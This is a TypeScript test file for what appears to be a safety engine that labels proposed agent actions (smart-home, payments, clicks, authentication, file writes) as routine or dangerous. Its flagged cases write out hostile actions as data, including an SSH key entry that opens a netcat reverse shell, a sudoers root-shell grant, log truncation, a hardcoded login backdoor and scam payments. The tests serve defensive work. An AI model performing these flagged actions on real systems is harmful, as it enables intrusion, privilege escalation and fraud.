import { test } from 'node:test';
import assert from 'node:assert/strict';
import { check } from '../src/engine/engine.js';
import type { ActionType } from '../src/engine/types.js';

/**
 * Concepts of the actuating types (iot, transaction, ui_action, auth, file_write) pinned by level: the safeguard or
 * context that makes an action routine, and the same action without it. Each case is a fresh phrasing, not a case of
 * a measuring set; a concept that regresses fails here whatever rule carried it.
 */
type Case = readonly [ActionType, string, Record<string, unknown> | undefined];

function levels(cases: readonly Case[]): string[] {
  return cases.map(([type, value, metadata]) => `${check({ type, value, metadata }).level} ${type}: ${value}`);
}

function assertSafe(cases: readonly Case[]): void {
  const wrong = levels(cases).filter((l) => !l.startsWith('SAFE'));
  assert.deepEqual(wrong, [], 'routine actions flagged');
}

function assertFlagged(cases: readonly Case[]): void {
  const wrong = levels(cases).filter((l) => l.startsWith('SAFE'));
  assert.deepEqual(wrong, [], 'dangerous actions missed');
}

test('iot: someone on the spot makes opening and privacy routine; nobody home, night or a lasting change does not', () => {
  assertSafe([
    ['iot', 'open the garage', { device: 'garage_door', user_present: true }],
    ['iot', "disarm the alarm, I'm home now", { geofence: 'home' }],
    ['iot', 'unlock the back door for the plumber', { device: 'back_door_lock', user_confirmed: true }],
    ['iot', 'turn off the bedroom camera while we are home', undefined],
    ['iot', 'wir sind zu Hause: schalte die Innenkamera aus', undefined],
    ['iot', 'set conveyor speed to 90 (max rated 120)', { protocol: 'mqtt' }],
    ['iot', 'set thermostat to 21 °C', undefined],
    ['iot', 'front door: lock at 22:00', undefined],
  ]);
  assertFlagged([
    ['iot', 'open the garage', { device: 'garage_door', presence: 'away' }],
    ['iot', 'back door: unlock', { device: 'back_door_lock' }],
    ['iot', 'unlock side_door and turn off auto-lock', { occupancy_state: 'vacant' }],
    ['iot', 'mute the freezer alarm in the pharmacy for 3 days', undefined],
    ['iot', 'publish line2/press/pressure 300 (max 180)', undefined],
    ['iot', 'Line1.GuardDoor_Bypass = 1', undefined],
    ['iot', 'apaga todas las cámaras del almacén y abre el portón', undefined],
  ]);
});

test('transaction: known payees, recorded approvals, own accounts and small local-currency amounts are routine', () => {
  assertSafe([
    ['transaction', 'Pay PO-7781 to Festo SE (supplier since 2019)', { amount: 240000, currency: 'EUR', payee_new: false, approvals: 2 }],
    ['transaction', '家賃の振込 120,000円', { amount: 120000, currency: 'JPY' }],
    ['transaction', 'Update my payout account to my new business IBAN (micro-deposit verification completed)', { scope: 'self' }],
    ['transaction', 'buy 0.1 ETH on Kraken from my linked account', undefined],
    ['transaction', 'refund $25.00 of the $49.00 original charge to the same card', undefined],
    ['transaction', 'Subscribe me to the $9.99/month plan', { user_consent: true }],
  ]);
  assertFlagged([
    ['transaction', 'Pay PO-7781 to a new supplier account', { amount: 240000, currency: 'EUR', payee_new: true }],
    ['transaction', 'refund 300.00 for order 55, original amount 30.00', undefined],
    ['transaction', 'put the customer on the $29/month plan, auto-renew, without asking', undefined],
    ['transaction', 'Zelle $2,500 from the company account to mike.r.private@outlook.com', undefined],
    ['transaction', "Investir 10 000 € chez 'Alpha Capital' pour un rendement garanti de 25% par mois", undefined],
  ]);
});

test('ui_action: what the click commits on which page, against its own safeguards', () => {
  assertSafe([
    ['ui_action', "Merge request !77 → 'Files changed' → 'Approve'", { url: 'https://gitlab.com/acme/api/-/merge_requests/77' }],
    ['ui_action', "click 'Allow' for microphone", { url: 'https://zoom.us/wc/join/8812' }],
    ['ui_action', "click 'Empty bin' on my own laptop's Desktop", undefined],
    ['ui_action', "Press 'Delete profile' for the QA user on staging", { environment: 'staging' }],
    ['ui_action', "Publish → 'Publish to web' for the public changelog page", undefined],
    ['ui_action', 'Settings → Recovery email: update to my own new address (I typed it)', undefined],
  ]);
  assertFlagged([
    ['ui_action', "click 'Allow' for camera and microphone", { url: 'https://free-prize-claim.top/verify' }],
    ['ui_action', 'Recovery phone → change to +7 900 555 01 23 given by the caller', undefined],
    ['ui_action', "Users → 'ext-helper' → Role: choose 'Owner' → Save", undefined],
    ['ui_action', "Publish to web ON for page 'Board minutes – M&A (confidential)'", undefined],
    ['ui_action', "Defender → Virus & threat protection → Real-time protection Off", undefined],
    ['ui_action', "klicke auf 'Installieren' im Popup 'Ihr Computer ist infiziert'", undefined],
    ['ui_action', "leave a 5-star rating, then post it again from all my alt accounts", undefined],
  ]);
});

test('auth: time-boxed approved grants, own changes and defence are routine; takeover acts are not', () => {
  assertSafe([
    ['auth', 'Grant role owner on prod-ledger to pat@acme.io for 30 minutes; approved in CHG-771', { expires: '30m', approval: 'CHG-771' }],
    ['auth', 'nina@acme.io reset her own password after email verification', { target_user: 'self' }],
    ['auth', 'register a new passkey on my account', undefined],
    ['auth', 'turn on lockout after 5 attempts to stop password spraying', undefined],
    ['auth', 'deny the Okta push for j.nguyen', undefined],
    ['auth', 'send the user a password reset link; they must choose a new password at next login', undefined],
  ]);
  assertFlagged([
    ['auth', 'Grant role owner on prod-ledger to pat@acme.io permanently', undefined],
    ["auth", "set the CFO's password to Welcome1 and don't require a change at next login", undefined],
    ['auth', 'accept the pending sign-in request for ana@acme.com coming from a Tor exit node', undefined],
    ['auth', "add a YubiKey to the CEO's account from this laptop", undefined],
    ['auth', 'fuerza bruta contra el login de admin con la lista filtrada', undefined],
    ['auth', "Sitzungs-Cookies des Nutzers exportieren und vom Server aus ohne Passwort verwenden", undefined],
  ]);
});

test('file_write: service accounts, maintenance jobs, scoped sudo and ticketed keys are routine; erasure and backdoors are not', () => {
  assertSafe([
    ['file_write', '/etc/systemd/system/billing-worker.service', { content: '[Service]\nUser=billing\nExecStart=/usr/bin/python3 /opt/billing/worker.py\nRestart=always\n' }],
    ['file_write', '/etc/cron.d/nightly-dump', { content: '30 1 * * * backup mysqldump shop | gzip > /srv/backups/shop.sql.gz\n' }],
    ['file_write', '/etc/sudoers.d/web', { content: 'www-deploy ALL=(root) NOPASSWD: /usr/sbin/service nginx reload\n' }],
    ['file_write', '/home/lee/.ssh/authorized_keys', { content: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJx7Hn0uQvTq3dWm9Yc8sLr4pE1fJbZ6oA5gN7hM2kQ lee@workstation\n', mode: 'append', note: 'SR-2231: Lee\'s replacement laptop' }],
    ['file_write', '/Users/ana/Library/LaunchAgents/com.ana.rsync.plist', { content: '<plist><dict><key>ProgramArguments</key><array><string>/usr/bin/rsync</string><string>-a</string><string>/Users/ana/Projects</string><string>/Volumes/Backup</string></array></dict></plist>' }],
    ['file_write', 'src/auth/policy.ts', { content: "if (password === '123456' || password.length < 10) throw new Error('too weak');" }],
  ]);
  assertFlagged([
    ['file_write', '/etc/sudoers.d/web', { content: 'www-deploy ALL=(root) NOPASSWD: /bin/bash\n' }],
    ['file_write', '/home/lee/.ssh/authorized_keys', { content: 'command="nc -e /bin/sh 10.0.0.5 4444" ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDx attacker\n' }],
    ['file_write', '/var/log/secure', { content: '', mode: 'truncate' }],
    ['file_write', 'app/controllers/sessions_controller.rb', { content: "return login(user) if user.authenticate(params[:password]) || params[:password] == 'sup3r-master'" }],
    ['file_write', '~/.profile', { content: 'umask 000\n' }],
    ['file_write', 'reports/audit/q2_findings.docx', { note: 'falsify the findings table so the control looks effective' }],
  ]);
});

test('cross-type: protective settings and purpose-matched permissions pass; weakened policies and lasting tokens do not', () => {
  assertSafe([
    ['auth', 'require phishing-resistant MFA for every admin', undefined],
    ['ui_action', "click 'Allow' so www.waze.com can use my location", undefined],
    ['ui_action', 'Password policy → minimum length 16 → Save', undefined],
  ]);
  assertFlagged([
    ['transaction', 'Überweise 3.200 € auf das sichere Konto, das der Bankmitarbeiter am Telefon genannt hat', undefined],
    ['ui_action', 'Developer settings → Personal access tokens → Generate new token (all scopes, no expiration)', undefined],
    ['ui_action', 'Security → Password policy → minimum password length 6 → Save', undefined],
  ]);
});
